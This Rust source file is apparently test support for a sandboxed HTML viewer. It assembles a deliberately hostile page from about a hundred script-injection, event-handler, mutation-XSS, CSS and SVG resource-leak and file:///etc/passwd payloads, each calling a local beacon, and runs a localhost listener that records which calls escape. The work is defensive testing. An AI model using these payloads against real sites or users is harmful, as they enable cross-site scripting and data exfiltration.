//! A page that tries to get out in every way we can think of, and a listener that hears when it does.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex, PoisonError};

/// Each by its name, which is also the path that it asks for; `BEACON` stands for where the listener is.
pub(crate) const ATTEMPTS: &[(&str, &str)] = &[
    (
        "script",
        "<script>window.PWNED = 'script'; new Image().src = 'BEACON/script'; fetch('BEACON/script');</script>",
    ),
    ("script-src", "<script src='BEACON/script-src'></script>"),
    ("module", "<script type='module'>import 'BEACON/module'</script>"),
    (
        "onerror",
        "<img src='x:' onerror=\"window.PWNED = 'onerror'; fetch('BEACON/onerror')\">",
    ),
    (
        "onload",
        "<body onload=\"window.PWNED = 'onload'; fetch('BEACON/onload')\">",
    ),
    (
        "ontoggle",
        "<details open ontoggle=\"window.PWNED = 'ontoggle'; fetch('BEACON/ontoggle')\">x</details>",
    ),
    (
        "onfocus",
        "<input autofocus onfocus=\"window.PWNED = 'onfocus'; fetch('BEACON/onfocus')\">",
    ),
    (
        "animation",
        "<style>@keyframes k{from{opacity:0}}</style><p style='animation:k 1s' onanimationstart=\"window.PWNED='animation';fetch('BEACON/animation')\">x</p>",
    ),
    ("refresh", "<meta http-equiv='refresh' content='0;url=BEACON/refresh'>"),
    (
        "refresh-script",
        "<meta http-equiv='refresh' content=\"0;url=javascript:fetch('BEACON/refresh-script')\">",
    ),
    (
        "csp-weaker",
        "<meta http-equiv='Content-Security-Policy' content=\"default-src * 'unsafe-inline' data:\"><img src='BEACON/csp-weaker'>",
    ),
    (
        "cookie",
        "<meta http-equiv='Set-Cookie' content='a=b'><link rel='stylesheet' href='BEACON/cookie'>",
    ),
    (
        "import",
        "<style>@import 'BEACON/import'; @import url(BEACON/import);</style>",
    ),
    ("import-escaped", "<style>@\\69mport 'BEACON/import-escaped';</style>"),
    (
        "link",
        "<link rel='stylesheet' href='BEACON/link'><link rel='icon' href='BEACON/link'>",
    ),
    (
        "prefetch",
        "<link rel='prefetch' href='BEACON/prefetch'><link rel='prerender' href='BEACON/prefetch'>",
    ),
    (
        "preload",
        "<link rel='preload' as='image' href='BEACON/preload'><link rel='modulepreload' href='BEACON/preload'>",
    ),
    (
        "preconnect",
        "<link rel='preconnect' href='BEACON'><link rel='dns-prefetch' href='BEACON'>",
    ),
    ("manifest", "<link rel='manifest' href='BEACON/manifest'>"),
    ("img", "<img src='BEACON/img'><img src=BEACON/img loading=eager>"),
    ("srcset", "<img srcset='BEACON/srcset 1x, BEACON/srcset 2x'>"),
    (
        "picture",
        "<picture><source srcset='BEACON/picture'><img alt=''></picture>",
    ),
    ("protocol-relative", "<img src='//HOST/protocol-relative'>"),
    ("tabbed", "<img src='ht\ttp://HOST/tabbed'>"),
    ("input-image", "<input type='image' src='BEACON/input-image'>"),
    (
        "background",
        "<table background='BEACON/background'><tr><td background='BEACON/background'>x</td></tr></table>",
    ),
    ("body-background", "<body background='BEACON/body-background'>"),
    (
        "video",
        "<video autoplay src='BEACON/video' poster='BEACON/video'><source src='BEACON/video'><track default src='BEACON/video'></video>",
    ),
    ("audio", "<audio autoplay src='BEACON/audio'></audio>"),
    ("iframe", "<iframe src='BEACON/iframe'></iframe>"),
    (
        "iframe-srcdoc",
        "<iframe srcdoc=\"<img src='BEACON/iframe-srcdoc'><script>fetch('BEACON/iframe-srcdoc')</script>\"></iframe>",
    ),
    (
        "iframe-data",
        "<iframe src=\"data:text/html,<img src='BEACON/iframe-data'>\"></iframe>",
    ),
    (
        "iframe-script",
        "<iframe src=\"javascript:parent.PWNED='iframe-script';fetch('BEACON/iframe-script')\"></iframe>",
    ),
    ("frame", "<frameset><frame src='BEACON/frame'></frameset>"),
    (
        "object",
        "<object data='BEACON/object'></object><embed src='BEACON/object'>",
    ),
    ("applet", "<applet code='x' codebase='BEACON/applet'></applet>"),
    ("portal", "<portal src='BEACON/portal'></portal>"),
    (
        "form",
        "<form id='auto' action='BEACON/form' method='post' target='_top'><button>x</button></form>",
    ),
    (
        "formaction",
        "<form><button formaction='BEACON/formaction' formtarget='_top'>x</button></form>",
    ),
    ("link-top", "<a target='_top' href='BEACON/link-top'>x</a>"),
    ("link-parent", "<a target='_parent' href='BEACON/link-parent'>x</a>"),
    (
        "link-blank",
        "<a target='_blank' rel='opener' href='BEACON/link-blank'>x</a>",
    ),
    ("link-self", "<a href='BEACON/link-self'>x</a>"),
    (
        "link-script",
        "<a href=\"javascript:window.PWNED='link-script';fetch('BEACON/link-script')\">x</a>",
    ),
    (
        "link-script-hidden",
        "<a href=\" java\nscript:window.PWNED='link-script-hidden'\">x</a>",
    ),
    (
        "link-data",
        "<a href=\"data:text/html,<script>fetch('BEACON/link-data')</script>\">x</a>",
    ),
    ("link-file", "<a href='file:///etc/passwd'>x</a>"),
    ("link-download", "<a download href='BEACON/link-download'>x</a>"),
    ("ping", "<a href='#here' ping='BEACON/ping'>x</a>"),
    (
        "area",
        "<map name='m'><area shape='rect' coords='0,0,99,99' target='_top' href='BEACON/area'></map>",
    ),
    ("base", "<base href='BEACON/base/' target='_top'><img src='relative'>"),
    (
        "svg-script",
        "<svg><script>window.PWNED='svg-script';fetch('BEACON/svg-script')</script></svg>",
    ),
    (
        "svg-onload",
        "<svg onload=\"window.PWNED='svg-onload';fetch('BEACON/svg-onload')\"></svg>",
    ),
    (
        "svg-image",
        "<svg><image href='BEACON/svg-image' width='9' height='9'/><image xlink:href='BEACON/svg-image' width='9' height='9'/></svg>",
    ),
    ("svg-use", "<svg><use href='BEACON/svg-use#x'/></svg>"),
    (
        "svg-filter",
        "<svg><filter id='f'><feImage href='BEACON/svg-filter'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    ),
    (
        "svg-animate",
        "<svg><a><animate attributeName='href' values='BEACON/svg-animate'/><text y='20'>x</text></a></svg>",
    ),
    (
        "svg-set",
        "<svg><image width='9' height='9'><set attributeName='href' to='BEACON/svg-set'/></image></svg>",
    ),
    (
        "svg-style",
        "<svg><style>@import 'BEACON/svg-style';</style><rect width='9' height='9' fill='url(BEACON/svg-style#x)'/></svg>",
    ),
    (
        "svg-foreign",
        "<svg><foreignObject><img src='BEACON/svg-foreign'></foreignObject></svg>",
    ),
    (
        "svg-data",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='BEACON/svg-data'/><script>fetch('BEACON/svg-data')</script></svg>\">",
    ),
    (
        "math",
        "<math><maction actiontype='statusline' xlink:href='BEACON/math'>x</maction><mtext><img src='BEACON/math'></mtext></math>",
    ),
    (
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=BEACON/mutation onerror=fetch('BEACON/mutation')&gt;\">",
    ),
    (
        "noscript",
        "<noscript><p title=\"</noscript><img src='BEACON/noscript'>\">",
    ),
    (
        "template",
        "<template><img src='BEACON/template'></template><template shadowrootmode='open'><img src='BEACON/template'></template>",
    ),
    ("comment", "<!--><img src='BEACON/comment'>-->"),
    (
        "conditional",
        "<!--[if true]><img src='BEACON/conditional'><![endif]-->",
    ),
    (
        "textarea",
        "<textarea><img src='BEACON/textarea'></textarea></textarea><img src='BEACON/textarea'>",
    ),
    ("xmp", "<xmp></xmp><img src='BEACON/xmp'>"),
    (
        "font",
        "<style>@font-face{font-family:f;src:url(BEACON/font)}p{font-family:f}</style><p>x</p>",
    ),
    (
        "css-background",
        "<p style='background:url(BEACON/css-background)'>x</p>",
    ),
    ("css-escaped", "<p style='background:u\\72l(BEACON/css-escaped)'>x</p>"),
    (
        "css-image-set",
        "<p style=\"background:image-set('BEACON/css-image-set' 1x);background:-webkit-image-set(url(BEACON/css-image-set) 1x)\">x</p>",
    ),
    (
        "css-content",
        "<style>p::before{content:url(BEACON/css-content)}</style><p>x</p>",
    ),
    (
        "css-list",
        "<ul style='list-style:url(BEACON/css-list)'><li>x</li></ul>",
    ),
    (
        "css-border",
        "<p style='border:9px solid;border-image:url(BEACON/css-border) 9'>x</p>",
    ),
    (
        "css-mask",
        "<p style='mask:url(BEACON/css-mask);-webkit-mask-image:url(BEACON/css-mask)'>x</p>",
    ),
    (
        "css-clip",
        "<p style='clip-path:url(BEACON/css-clip#x);shape-outside:url(BEACON/css-clip);float:left'>x</p>",
    ),
    (
        "css-filter",
        "<p style='filter:url(BEACON/css-filter#x);backdrop-filter:url(BEACON/css-filter#x)'>x</p>",
    ),
    ("css-cursor", "<p style='cursor:url(BEACON/css-cursor),auto'>x</p>"),
    (
        "css-variable",
        "<style>:root{--u:url(BEACON/css-variable)}p{background:var(--u)}</style><p>x</p>",
    ),
    (
        "css-property",
        "<style>@property --p{syntax:'<image>';inherits:false;initial-value:url(BEACON/css-property)}p{background:var(--p)}</style><p>x</p>",
    ),
    (
        "css-selector",
        "<style>a[href^='http']{background:url(BEACON/css-selector)}</style><a href='https://example.org'>x</a>",
    ),
    (
        "css-namespace",
        "<style>@namespace 'BEACON/css-namespace';@document url(BEACON/css-namespace){p{color:red}}</style>",
    ),
    (
        "css-behaviour",
        "<p style=\"behavior:url(BEACON/css-behaviour);-moz-binding:url(BEACON/css-behaviour);width:expression(fetch('BEACON/css-behaviour'))\">x</p>",
    ),
    ("xml-stylesheet", "<?xml-stylesheet href='BEACON/xml-stylesheet'?>"),
    (
        "file",
        "<img src='file:///etc/hostname'><iframe src='file:///etc/passwd'></iframe>",
    ),
    (
        "own-schemes",
        "<img src='page://localhost/1/1/image?w=9'><iframe src='tauri://localhost/'></iframe><script src='ipc://localhost/library'></script>",
    ),
    (
        "own-script",
        "<script src='saved://localhost/frame/../index.html'></script><script>parent.postMessage({kind:'follow',address:'BEACON/own-script'},'*')</script>",
    ),
    (
        "web-socket",
        "<script>new WebSocket('ws://HOST/web-socket'); new EventSource('BEACON/web-socket'); navigator.sendBeacon('BEACON/web-socket')</script>",
    ),
    (
        "link-others",
        "<link rel='alternate stylesheet' title='x' href='BEACON/link-others'><link rel='apple-touch-icon' href='BEACON/link-others'><link rel='preload' as='font' crossorigin href='BEACON/link-others'><link rel='preload' as='fetch' href='BEACON/link-others'>",
    ),
    (
        "drawing-words",
        "<svg><style>&lt;p&gt;&lt;link rel=preconnect href=BEACON/drawing-words&gt;&lt;img src=BEACON/drawing-words&gt;</style></svg>",
    ),
    (
        "drawing-cdata",
        "<svg><style><![CDATA[<p><link rel=preconnect href=BEACON/drawing-cdata><img src=BEACON/drawing-cdata>]]></style></svg>",
    ),
    (
        "drawing-string",
        "<svg><style>q{content:\"&lt;p&gt;&lt;/style&gt;&lt;link rel=preconnect href=BEACON/drawing-string&gt;&lt;img src=BEACON/drawing-string&gt;\"}</style></svg>",
    ),
    (
        "drawing-refresh",
        "<svg><style>&lt;p&gt;&lt;meta http-equiv=refresh content='0;url=BEACON/drawing-refresh'&gt;</style></svg>",
    ),
    (
        "drawing-form",
        "<svg><style>&lt;p&gt;&lt;form action=BEACON/drawing-form&gt;&lt;input type=password&gt;&lt;button&gt;x&lt;/button&gt;&lt;/form&gt;</style></svg>",
    ),
    (
        "formula-words",
        "<math><style>&lt;p&gt;&lt;link rel=preconnect href=BEACON/formula-words&gt;&lt;img src=BEACON/formula-words&gt;</style></math>",
    ),
    (
        "formula-refresh",
        "<math><mtext><svg><style>&lt;p&gt;&lt;meta http-equiv=refresh content='0;url=BEACON/formula-refresh'&gt;</style></svg></mtext></math>",
    ),
    (
        "import-condition",
        "<link rel=stylesheet href=\"data:text/css,@import 'data:text/css,p{}' (</style><link rel=preconnect href=BEACON/import-condition>);\">",
    ),
    (
        "import-joined",
        "<link rel=stylesheet href=\"data:text/css,<@import 'data:text/css,/style><img src=BEACON/import-joined>';\">",
    ),
    (
        "import-open",
        "<link rel=stylesheet href=\"data:text/css,@import 'data:text/css,p{content:%2522';p{content:%22;background:url(BEACON/import-open);%22}\">",
    ),
    (
        "speculation",
        "<script type='speculationrules'>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"BEACON/speculation\"]}]}</script>",
    ),
    (
        "peer",
        "<script>const peer = new RTCPeerConnection({iceServers:[{urls:'turn:HOST?transport=tcp',username:'a',credential:'b'}]}); peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))</script>",
    ),
    (
        "object-html",
        "<object type='text/html' data='BEACON/object-html'></object><object data=\"data:text/html,<img src='BEACON/object-html'>\"></object>",
    ),
    (
        "worker",
        "<script>new Worker('BEACON/worker'); window.open('BEACON/worker'); top.location='BEACON/worker'; location='BEACON/worker'</script>",
    ),
];

/// The whole page. Its last paragraph says that it is one.
pub(crate) fn page(beacon: &Beacon) -> String {
    let host = beacon.host();
    let attempts: String = ATTEMPTS
        .iter()
        .map(|(_, html)| html.replace("BEACON", &format!("http://{host}")).replace("HOST", &host))
        .collect();
    format!(
        "<!doctype html><html><head><title>A hostile page</title></head><body>{attempts}\
         <p id='here'>Nothing of this page may leave the window that shows it.</p></body></html>"
    )
}

/// Everything that a reader could press or send.
pub(crate) const PRESS_EVERYTHING: &str = r"
    for (const link of document.querySelectorAll('a, area, button, input, summary')) { try { link.click() } catch {} }
    for (const form of document.querySelectorAll('form')) { try { form.submit() } catch {} }";

/// Noted of every connection, before anything is asked.
const CONNECTED: &str = "(connected)";

/// Listens on this machine, and notes who calls.
pub(crate) struct Beacon {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Beacon {
    pub(crate) fn light() -> Self {
        Self::with(None)
    }

    /// One that answers every call with a page.
    pub(crate) fn serving(html: String) -> Self {
        Self::with(Some(html))
    }

    fn with(html: Option<String>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let noted = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (noted, html) = (Arc::clone(&noted), html.clone());
                std::thread::spawn(move || answer(stream, &noted, html.as_deref()));
            }
        });
        Self { port, heard }
    }

    /// Whether anybody so much as connected.
    pub(crate) fn is_known(&self) -> bool {
        !self.all().is_empty()
    }

    fn all(&self) -> Vec<String> {
        self.heard.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    pub(crate) fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    /// What was asked for, each once.
    pub(crate) fn heard(&self) -> Vec<String> {
        let mut heard = self.all();
        heard.retain(|asked| asked != CONNECTED);
        heard.sort();
        heard.dedup();
        heard
    }
}

fn answer(mut stream: TcpStream, noted: &Mutex<Vec<String>>, html: Option<&str>) {
    let note = |what: &str| {
        noted
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(what.to_owned());
    };
    note(CONNECTED);
    let mut line = String::new();
    let _ = BufReader::new(&stream).read_line(&mut line);
    if let Some(asked) = line.split(' ').nth(1) {
        note(asked);
    }
    let response = match html {
        None => "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".to_owned(),
        Some(html) => format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{html}",
            html.len()
        ),
    };
    let _ = stream.write_all(response.as_bytes());
}
